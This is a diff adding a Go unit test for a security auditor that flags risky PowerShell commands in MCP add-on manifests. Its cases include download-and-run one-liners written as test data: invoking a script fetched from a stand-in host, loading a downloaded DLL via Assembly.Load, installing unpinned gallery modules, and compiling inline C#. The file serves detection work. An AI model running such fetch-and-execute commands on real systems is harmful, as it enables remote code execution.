@@ -6149,3 +6149,38 @@ func TestAuditLauncherEnvironment(t *testing.T) {
 	)
 	runCases(t, cases)
 }
+
+// PowerShell's package commands and code it builds (ruleset 2026.12.190):
+// Install-Module, Install-Script, Install-PSResource, Install-Package and
+// their Save- and Update- forms fetch from the PowerShell Gallery (or
+// another feed) at start: network use, and unpinned without an exact
+// -RequiredVersion or -Version; $ExecutionContext.InvokeCommand's
+// InvokeScript and NewScriptBlock run text as Invoke-Expression does;
+// [Reflection.Assembly]::Load of a download runs it; Add-Type given source
+// code compiles and runs C# written inline.
+func TestAuditPowerShellPackagesAndCode(t *testing.T) {
+	const shellExec, unpinned, pipe, fetch = "danger shell_exec mcp.args[1]", "warn unpinned mcp.args[1]",
+		"danger pipe_to_shell mcp.args[1]", "danger fetch_exec mcp.args[1]"
+	ps := func(script string) *addon.Manifest { return stdio("pwsh", "-NoProfile", "-Command", script) }
+	at2 := func(s string) string { return strings.Replace(s, "mcp.args[1]", "mcp.args[2]", 1) }
+	runCases(t, []auditCase{
+		{"Install-Module", ps("Install-Module evil -Force; Import-Module evil"), []string{at2(shellExec), at2(unpinned)}, true, true},
+		{"Install-Module -MinimumVersion", ps("Install-Module -Name evil -MinimumVersion 1.2.3"), []string{at2(shellExec), at2(unpinned)}, true, true},
+		{"Install-PSResource a range", ps("Install-PSResource evil -Version '[1.0,2.0)'"), []string{at2(shellExec), at2(unpinned)}, true, true},
+		{"Install-Script", ps("Install-Script x -Repository PSGallery; x.ps1"), []string{at2(shellExec), at2(unpinned)}, true, true},
+		{"Save-Module of two", ps("Save-Module a,b -Path C:\\m"), []string{at2(shellExec), at2(unpinned), at2(unpinned)}, true, true},
+		{"InvokeScript of a download", ps("$ExecutionContext.InvokeCommand.InvokeScript((irm https://x.example.com/a))"),
+			[]string{at2(fetch), at2(pipe), at2(shellExec)}, true, true},
+		{"Assembly.Load of a download", ps("[System.Reflection.Assembly]::Load((iwr https://x.example.com/a.dll).Content)"),
+			[]string{at2(fetch), at2(pipe), at2(shellExec)}, true, true},
+		{"Add-Type -TypeDefinition", ps("Add-Type -TypeDefinition 'public class X {}'; [X]::new()"),
+			[]string{"danger inline_code mcp.args[2]", at2(shellExec)}, false, true},
+		// Look-alikes: exact versions, an assembly by name or path, a
+		// local assembly loaded.
+		{"Install-Module -RequiredVersion", ps("Install-Module -Name evil -RequiredVersion 1.2.3 -Force"), []string{at2(shellExec)}, true, true},
+		{"Install-Module -Req:", ps("Install-Module evil -Req:1.2.3"), []string{at2(shellExec)}, true, true},
+		{"Install-PSResource an exact version", ps("Install-PSResource evil -Version '[1.2.3]'"), []string{at2(shellExec)}, true, true},
+		{"Add-Type -AssemblyName", ps("Add-Type -AssemblyName System.Web"), []string{at2(shellExec)}, false, true},
+		{"Assembly.LoadFrom a file", ps("[System.Reflection.Assembly]::LoadFrom('C:\\lib\\x.dll')"), []string{at2(shellExec)}, false, true},
+	})
+}
